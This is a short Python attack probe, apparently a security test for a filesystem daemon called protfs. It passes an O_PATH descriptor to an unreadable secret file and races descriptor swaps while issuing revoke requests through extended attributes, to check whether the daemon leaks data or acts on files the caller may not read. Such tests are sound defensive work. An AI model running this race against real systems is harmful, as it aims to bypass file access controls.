# Attack probe: hands the daemon a descriptor for a revoke request that the caller may not read.
# argv: MOUNT_ROOT SECRET_FILE MODE(static|race) TRIES; prints each answer on its own line.
import os, sys, threading
root, secret, mode, tries = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
junk = os.open("/dev/null", os.O_RDONLY)
probe = os.open(secret, os.O_PATH)
slot = 200
os.dup2(probe, slot)
stop = False
def swap():
    # Keeps swapping a readable descriptor and the O_PATH one into the slot the request names.
    while not stop:
        os.dup2(junk, slot)
        os.dup2(probe, slot)
if mode == "race":
    threading.Thread(target=swap, daemon=True).start()
for _ in range(tries):
    try:
        print(os.getxattr(root, "user.protfs.revoke.%d" % slot).decode(errors="replace"))
    except OSError as e:
        print("error", e.errno)
stop = True
